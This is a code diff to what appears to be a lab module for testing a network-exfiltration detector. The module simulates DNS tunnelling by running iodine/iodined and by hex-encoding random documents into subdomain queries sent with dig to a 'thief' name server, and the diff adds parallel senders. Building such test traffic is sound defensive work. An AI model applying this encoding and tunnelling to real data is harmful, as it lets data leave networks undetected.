@@ -6,15 +6,18 @@ use std::net::IpAddr;
 use std::time::Duration;
 
 use anyhow::{Context, Result, ensure};
-use detector_tests::{poll_until, wait_for_udp_listener};
+use detector_tests::{Background, poll_until, wait_for_udp_listener};
 
 use crate::lab::random::Random;
 use crate::lab::scene::{Outcome, Scene, Target, ensure_arrived, resolver};
 use crate::lab::sites::THIEF_NAME_SERVER;
 
 const START: Duration = Duration::from_secs(15);
-/// Up to here iodine's slowest record types need less than half a minute.
-const LARGEST_TUNNELLED: u64 = 60_000;
+/// Takes half a minute over a long line.
+const LARGEST_TUNNELLED: u64 = 200_000;
+/// As many as a long line takes in a quarter of a minute.
+const MOST_QUERIES: usize = 400;
+const SENDER: Duration = Duration::from_secs(60);
 const TUNNEL_SERVER: &str = "10.99.0.1";
 const TUNNEL_PORT: &str = "4000";
 
@@ -24,10 +27,15 @@ pub(in crate::lab) fn iodine(scene: &Scene<'_>, random: &mut Random) -> Result<O
     let through = if random.chance(0.3) { THIEF_NAME_SERVER } else { resolver(random) };
     let size = random.size(8_000, LARGEST_TUNNELLED);
     let zone = &scene.thief_zone;
-    let server = scene.internet().spawn("iodined", ["-f", "-c", "-l", THIEF_NAME_SERVER, "-P", "secret", TUNNEL_SERVER, zone])?;
+    let server = scene.internet().spawn(
+        "iodined",
+        ["-f", "-c", "-l", THIEF_NAME_SERVER, "-P", "secret", TUNNEL_SERVER, zone],
+    )?;
     wait_for_udp_listener(scene.internet(), 53, START)?;
     server.wait_for_line("Listening to dns", START)?;
-    let client = scene.client().spawn("iodine", ["-f", "-r", "-T", record, "-P", "secret", through, zone])?;
+    let client = scene
+        .client()
+        .spawn("iodine", ["-f", "-r", "-T", record, "-P", "secret", through, zone])?;
     client.wait_for_line("Connection setup complete", Duration::from_secs(40))?;
     let got = scene.inbox("got");
     let sink = format!("OPEN:{},creat", got.display());
@@ -39,24 +47,30 @@ pub(in crate::lab) fn iodine(scene: &Scene<'_>, random: &mut Random) -> Result<O
     let length = || fs::metadata(&got).map_or(0, |file| file.len() as usize);
     poll_until(START * 3, || (length() >= size).then_some(())).ok();
     ensure_arrived(size, length())?;
-    stolen(scene, through, size, format!("{size} bytes in {record} queries for {zone} through {through}"))
+    stolen(
+        scene,
+        through,
+        size,
+        format!("{size} bytes in {record} queries for {zone} through {through}"),
+    )
 }
 
 /// Hundreds of queries, as fast as dig asks them.
 pub(in crate::lab) fn fast_queries(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
     let size = random.size(6_000, 50_000);
-    carry(scene, random, size, &Pace { queries_at_once: 40, pause_secs: 0.0 })
+    carry(scene, random, size, &Pace { queries_at_once: 25, senders: 4, pause_secs: 0.0 })
 }
 
 /// One query now and then.
 pub(in crate::lab) fn slow_queries(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
     let size = random.size(300, 2_500);
     let pause_secs = random.log_uniform(0.2, 1.0);
-    carry(scene, random, size, &Pace { queries_at_once: 1, pause_secs })
+    carry(scene, random, size, &Pace { queries_at_once: 1, senders: 1, pause_secs })
 }
 
 struct Pace {
     queries_at_once: usize,
+    senders: usize,
     pause_secs: f64,
 }
 
@@ -66,27 +80,63 @@ fn carry(scene: &Scene<'_>, random: &mut Random, size: usize, pace: &Pace) -> Re
     let through = if random.chance(0.3) { THIEF_NAME_SERVER } else { resolver(random) };
     let style = *random.pick(&["address", "text", "nxdomain"]);
     let log = scene.scratch.join("names.log");
-    let server = scene.start_script(scene.internet(), "dns_sink.py", &[THIEF_NAME_SERVER.to_owned(), log.display().to_string(), style.to_owned()])?;
+    let server = scene.start_script(
+        scene.internet(),
+        "dns_sink.py",
+        &[THIEF_NAME_SERVER.to_owned(), log.display().to_string(), style.to_owned()],
+    )?;
     server.wait_for_line("ready", START)?;
-    let document = random.document(size);
-    let names = names_of(&document, &scene.thief_zone, random.between(1, 3) as usize, random.between(16, 62) as usize);
+    let (labels, label_length) = (random.between(1, 3) as usize, random.between(16, 62) as usize);
+    let document = random.document(size.min(MOST_QUERIES * labels * (label_length / 2)));
+    let size = document.len();
+    let names = names_of(&document, &scene.thief_zone, labels, label_length);
     let kind = if style == "text" { "TXT" } else { *random.pick(&["A", "A", "AAAA"]) };
-    for some in names.chunks(pace.queries_at_once) {
-        let list: String = some.iter().map(|name| format!("{name} {kind}\n")).collect();
-        let batch = scene.document("names", list.as_bytes())?;
-        scene.run("dig", &[&format!("@{through}"), "+short", "+tries=3", "+timeout=2", "-f", &batch])?;
+    for (number, some) in names.chunks(pace.queries_at_once * pace.senders).enumerate() {
+        let lists = some.chunks(pace.queries_at_once).enumerate();
+        let senders: Vec<Background> = lists
+            .map(|(sender, list)| {
+                let list: String = list.iter().map(|name| format!("{name} {kind}\n")).collect();
+                let batch = scene.document(&format!("names-{number}-{sender}"), list.as_bytes())?;
+                scene.client().spawn(
+                    "dig",
+                    [&format!("@{through}"), "+short", "+tries=4", "+timeout=2", "-f", &batch],
+                )
+            })
+            .collect::<Result<_>>()?;
+        for mut sender in senders {
+            sender.wait(SENDER)?;
+        }
         std::thread::sleep(Duration::from_secs_f64(pace.pause_secs * random.uniform(0.5, 1.5)));
     }
-    let arrived = read_back(&fs::read_to_string(&log).context("nobody asked the thief's server")?, &scene.thief_zone);
-    ensure!(arrived == document, "{size} bytes were sent in {} names and other ones arrived", names.len());
-    stolen(scene, through, size, format!("{size} bytes in {} {kind} queries for {} through {through}, answered with {style}", names.len(), scene.thief_zone))
+    let arrived = read_back(
+        &fs::read_to_string(&log).context("nobody asked the thief's server")?,
+        &scene.thief_zone,
+    );
+    ensure!(
+        arrived == document,
+        "{size} bytes were sent in {} names and other ones arrived",
+        names.len()
+    );
+    stolen(
+        scene,
+        through,
+        size,
+        format!(
+            "{size} bytes in {} {kind} queries for {} through {through}, answered with {style}",
+            names.len(),
+            scene.thief_zone
+        ),
+    )
 }
 
 /// `NUMBER.LABEL[.LABEL…].ZONE`, the labels of even length so that each holds whole bytes.
 fn names_of(document: &[u8], zone: &str, labels: usize, label_length: usize) -> Vec<String> {
     let bytes_per_label = label_length / 2;
     let name = |(number, part): (usize, &[u8])| {
-        let labels: Vec<String> = part.chunks(bytes_per_label).map(|bytes| bytes.iter().map(|byte| format!("{byte:02x}")).collect()).collect();
+        let labels: Vec<String> = part
+            .chunks(bytes_per_label)
+            .map(|bytes| bytes.iter().map(|byte| format!("{byte:02x}")).collect())
+            .collect();
         format!("{number:x}.{}.{zone}", labels.join("."))
     };
     document.chunks(bytes_per_label * labels).enumerate().map(name).collect()
@@ -94,7 +144,8 @@ fn names_of(document: &[u8], zone: &str, labels: usize, label_length: usize) -> 
 
 /// The document from the names, whatever their order and however often each came.
 fn read_back(log: &str, zone: &str) -> Vec<u8> {
-    let parts: BTreeMap<usize, Vec<u8>> = log.lines().filter_map(|name| part_of(name, zone)).collect();
+    let parts: BTreeMap<usize, Vec<u8>> =
+        log.lines().filter_map(|name| part_of(name, zone)).collect();
     parts.into_values().flatten().collect()
 }
 
